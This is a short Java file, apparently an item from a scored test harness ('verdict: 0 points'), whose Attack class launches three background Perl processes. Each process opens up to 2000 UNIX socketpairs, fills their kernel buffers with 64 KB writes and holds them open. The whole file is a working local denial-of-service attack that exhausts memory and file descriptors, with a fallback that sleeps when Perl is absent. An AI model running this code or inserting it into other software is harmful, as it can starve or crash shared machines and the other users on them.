// It fills the buffers of thousands of sockets that lead from process to process.
// verdict: 0 points
package webserver;

final class Attack {
    static void run(String[] arguments) throws Exception {
        String perl = "use Socket; my @kept; for (1..2000) {"
                + " socketpair(my $a, my $b, AF_UNIX, SOCK_STREAM, 0) or last;"
                + " $a->blocking(0); 1 while syswrite($a, 'x' x 65536); push @kept, $a, $b; } sleep 5;";
        StringBuilder script = new StringBuilder("command -v perl || exit 7; ");
        for (int i = 0; i < 3; i++) {
            script.append("perl -MIO::Handle -e \"").append(perl.replace("$", "\\$")).append("\" & ");
        }
        if (new ProcessBuilder("sh", "-c", script + "wait").start().waitFor() == 7) {
            Thread.sleep(20_000); // no perl here: it has nothing to try it with
        }
    }
}
